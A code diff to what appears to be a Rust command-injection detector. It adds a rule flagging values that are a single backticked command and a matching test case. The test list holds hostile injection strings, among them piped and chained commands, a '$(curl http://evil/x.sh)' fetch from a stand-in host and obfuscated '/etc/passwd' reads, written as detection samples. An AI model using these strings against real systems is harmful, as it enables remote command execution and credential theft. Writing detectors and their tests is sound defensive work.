@@ -637,6 +637,18 @@ impl Detector for Rce {
                 take(0.75, 0, lower.len().min(80));
             }
         }
+        // A whole value that is one backticked command (`` `id` ``, `` `uname -a` ``): a
+        // substitution with nothing around it to be Markdown prose.
+        if let Some(inner) = lower
+            .trim()
+            .strip_prefix('`')
+            .and_then(|r| r.strip_suffix('`'))
+        {
+            let word = inner.split_whitespace().next().unwrap_or("");
+            if !inner.contains('`') && self.lookup(word) == Some(true) {
+                take(0.75, 0, lower.len().min(80));
+            }
+        }
         // `\ls`: a backslash before a command skips the user's aliases of it.
         if let Some(rest) = lower.strip_prefix('\\') {
             let word = rest
@@ -931,6 +943,7 @@ mod tests {
             "x|id",
             "1 && whoami",
             "`uname -a`",
+            "`id`",
             "$(curl http://evil/x.sh)",
             "; c'a't /etc/pa's's'wd",
             "1;cat${IFS}/etc/passwd",
